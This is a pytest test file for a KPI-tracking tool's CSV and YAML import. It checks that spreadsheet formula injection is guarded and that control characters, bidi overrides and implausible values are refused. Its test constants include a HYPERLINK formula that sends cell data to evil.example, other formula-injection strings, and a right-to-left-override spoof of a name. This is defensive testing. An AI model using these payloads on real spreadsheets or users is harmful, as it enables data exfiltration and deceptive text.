"""Issue 26, items 3, 5 and 8, through the real command line on a copy of the real data folder.

3. The spreadsheet guard belongs to the file, not the value: an export → edit → import round trip
   changes nothing, pages and JSON show the value as given (no ``'`` in front).
5. Control characters and bidirectional overrides (NUL, BEL, U+202E …) are refused with a line
   naming file, line and field, in an actuals sheet and in the plan's YAML.
8. A value beyond any plausible one for the KPI's unit is refused.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from geo.plan.actuals import actual_files, read_actuals
from geo.plan.actuals_check import VALUE_BOUNDS
from geo.plan.model import load_plan
from tests.cli_fixtures import csv_row, run_cli
from tests.conftest import boundaries_path

ROOT = Path(__file__).resolve().parents[1]
HEADER = "kpi_id,年度,実績値,速報/確報,出典,URL/資料,公表日,備考\n"
HOSTILE_SOURCE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_REFERENCE = "@SUM(A1:A9)"
HOSTILE_NOTE = "-1+1"
KPI = "okhotsk-visits-1"  # 846.9万人(H25)→907万人(R1)




@pytest.fixture()
def data(tmp_path) -> Path:
    out = tmp_path / "data"
    shutil.copytree(ROOT / "data", out)
    return out


def _canonical(data: Path) -> Path:
    return data / "editions" / "h28" / "actuals" / "actuals.csv"


def _import(data: Path, sheet: Path) -> subprocess.CompletedProcess[str]:
    return run_cli("progress", "import", str(sheet), "--data", str(data))


# --- 3. the guard round trip ------------------------------------------------------------------


def test_export_edit_import_changes_nothing_and_values_stay_as_given(data, tmp_path):
    sheet = tmp_path / "office.csv"
    sheet.write_text(HEADER + csv_row(KPI, "H30", "910万人", "確報", HOSTILE_SOURCE, HOSTILE_REFERENCE,
                                       "2019-09-30", HOSTILE_NOTE)
                     + csv_row(KPI, "H29", "880万人", "確報", "報告書", "p.3", "2018-09-28", ""),
                     encoding="utf-8")
    done = _import(data, sheet)
    assert done.returncode == 0, done.stderr
    assert "追加 2件、変更 0件" in done.stdout
    # The file is one a spreadsheet opens: there the guard stands in front of each formula start ...
    written = _canonical(data).read_text(encoding="utf-8-sig")
    assert f"'{HOSTILE_SOURCE}".replace('"', '""') in written and f"'{HOSTILE_NOTE}" in written
    # ... and the value read back is the one given, without it.
    plan = load_plan(data)
    recs = {r.fiscal_year: r for r in read_actuals(actual_files(data), plan)}
    assert (recs[2018].source, recs[2018].reference, recs[2018].note) == (
        HOSTILE_SOURCE, HOSTILE_REFERENCE, HOSTILE_NOTE)

    # The same sheet again, and the folder's own file exported, "edited" and saved: no change.
    again = _import(data, sheet)
    assert "追加 0件、変更 0件、変更なし 2件" in again.stdout, again.stdout + again.stderr
    exported = tmp_path / "exported.csv"
    shutil.copy(_canonical(data), exported)
    before = _canonical(data).read_bytes()
    done = _import(data, exported)
    assert done.returncode == 0, done.stderr
    assert "追加 0件、変更 0件、変更なし 2件" in done.stdout, done.stdout
    assert _canonical(data).read_bytes() == before
    # One real edit in the exported file is exactly one change.
    exported.write_text(exported.read_text(encoding="utf-8-sig").replace("880万人", "885万人"),
                        encoding="utf-8-sig")
    done = _import(data, exported)
    assert "追加 0件、変更 1件、変更なし 1件" in done.stdout, done.stdout
    assert "~ okhotsk-visits-1" in done.stdout and "885万人" in done.stdout

    # Pages and JSON show the value as given.
    from app import create_app

    client = create_app({"TESTING": True, "BOUNDARIES": str(boundaries_path()),
                         "DATA_DIR": str(data)}).test_client()
    api = client.get(f"/api/progress/kpi/{KPI}").get_data(as_text=True)
    assert "HYPERLINK" in api and "'=HYPERLINK" not in api and "'-1+1" not in api
    page = client.get(f"/progress/kpi/{KPI}").get_data(as_text=True)
    assert "=HYPERLINK(" in page and "&#39;=HYPERLINK" not in page and "'=HYPERLINK" not in page


# --- 5. control characters and bidirectional overrides ----------------------------------------

CONTROLS = {
    "NUL": ("\x00", "U+0000"),
    "BEL": ("\x07", "U+0007"),
    "ESC": ("\x1b", "U+001B"),
    "DEL": ("\x7f", "U+007F"),
    "C1 NEL": ("\x85", "U+0085"),
    "RLO": ("\u202e", "U+202E (RLO)"),
    "LRI": ("\u2066", "U+2066 (LRI)"),
    "RLM": ("\u200f", "U+200F (RLM)"),
}


@pytest.mark.parametrize("name", list(CONTROLS))
def test_control_characters_in_an_actuals_sheet_are_refused(data, tmp_path, name):
    char, shown = CONTROLS[name]
    sheet = tmp_path / "office.csv"
    sheet.write_text(HEADER + csv_row(KPI, "H30", "910万人", "確報", f"報告{char}書", "p.3",
                                       "2019-09-30", ""), encoding="utf-8")
    done = _import(data, sheet)
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    first = done.stderr.splitlines()[0]
    assert first.startswith(f"{sheet}:2: 出典: ") and shown in first and "at character 3" in first, first
    assert not _canonical(data).exists()


def test_tab_and_line_breaks_inside_a_cell_are_layout_not_control(data, tmp_path):
    sheet = tmp_path / "office.csv"
    sheet.write_text(HEADER + csv_row(KPI, "H30", "910万人", "確報", "報告書", "p.3", "2019-09-30",
                                       "一行目\n二行目\tタブ"), encoding="utf-8")
    done = _import(data, sheet)
    assert done.returncode == 0, done.stderr


def test_bidi_override_in_the_plan_yaml_is_refused_by_validate(data):
    projects = data / "editions" / "h28" / "projects" / "donan.yaml"
    text = projects.read_text(encoding="utf-8")
    name = "新幹線開業を活かした交流人口拡大プロジェクト"
    assert f"name: {name}\n" in text
    lying = "name: 交流\u202eトクェジロプ\n"  # shows as 交流プロジェクト, stored the other way round
    projects.write_text(text.replace(f"name: {name}\n", lying, 1), encoding="utf-8")
    done = run_cli("validate", "--data", str(data))
    out = done.stdout + done.stderr
    assert done.returncode != 0 and "Traceback" not in out, out[-2000:]
    [line] = [ln for ln in out.splitlines() if "U+202E" in ln]
    assert str(projects) in line and "name" in line and "bidirectional control U+202E (RLO)" in line, line


# --- 8. plausibility -----------------------------------------------------------------------


@pytest.mark.parametrize(("kpi", "value", "unit"), [
    (KPI, "999999999999999999999999人", "人"),
    (KPI, "2,000,000万人", "人"),  # 2×10¹⁰ people: the unit says 万, the number is a typo
    ("donan-industry-jobs-1", "999999999999999999999999件", "件"),
    ("dohoku-safety-1", "1200%", "%"),
])
def test_implausible_values_are_refused(data, tmp_path, kpi, value, unit):
    sheet = tmp_path / "office.csv"
    sheet.write_text(HEADER + csv_row(kpi, "H30", value, "確報", "報告書", "p.3", "2019-09-30", ""),
                     encoding="utf-8")
    done = _import(data, sheet)
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    first = done.stderr.splitlines()[0]
    assert first.startswith(f"{sheet}:2: 実績値: ") and "beyond any plausible value" in first, first
    assert f"at most {VALUE_BOUNDS[unit]:,}{unit}" in first, first
    assert not _canonical(data).exists()


def test_values_at_the_bound_and_real_sizes_are_accepted(data, tmp_path):
    sheet = tmp_path / "office.csv"
    # 10⁹ 件 exactly (the bound is inclusive); a 100.0% rate; Hokkaido's real visitor numbers.
    sheet.write_text(HEADER
                     + csv_row("donan-industry-jobs-1", "H28", "1,000,000,000件", "確報", "s", "r",
                                "2017-05-19", "")
                     + csv_row("dohoku-safety-1", "H30", "100.0%", "確報", "s", "r", "2019-08-01", "")
                     + csv_row(KPI, "H30", "910万人", "確報", "s", "r", "2019-09-30", ""), encoding="utf-8")
    done = _import(data, sheet)
    assert done.returncode == 0, done.stderr
    assert "追加 3件" in done.stdout


def test_an_implausible_number_cell_in_a_workbook_is_refused(data, tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(HEADER.strip().split(","))
    ws.append([KPI, "H30", 1e30, "確報", "報告書", "p.3", "2019-09-30", None])  # a number cell
    path = tmp_path / "office.xlsx"
    wb.save(path)
    done = _import(data, path)
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    assert done.stderr.startswith(f"{path}:2: 実績値: ") and "beyond any plausible value" in done.stderr


def test_every_unit_a_kpi_can_have_is_bounded_and_infinity_is_refused():
    from geo.plan.actuals_check import _cell_number
    from geo.plan.kpi import parse_kpi

    kpi = parse_kpi("観光入込客数 1,162万人(H26)→1,440万人(R1)")
    for number in (float("inf"), 1e300):
        with pytest.raises(ValueError, match="beyond any plausible value"):
            _cell_number(number, kpi)
    assert _cell_number(1440, kpi) == (14_400_000, "1440万人")
    # The units the KPI parser knows (its own error message lists them) all have a bound.
    with pytest.raises(ValueError) as exc:
        parse_kpi("x 10回(R1)")
    known = str(exc.value).split("one of ")[1].split(",")[0].split()
    assert set(known) <= set(VALUE_BOUNDS), set(known) - set(VALUE_BOUNDS)
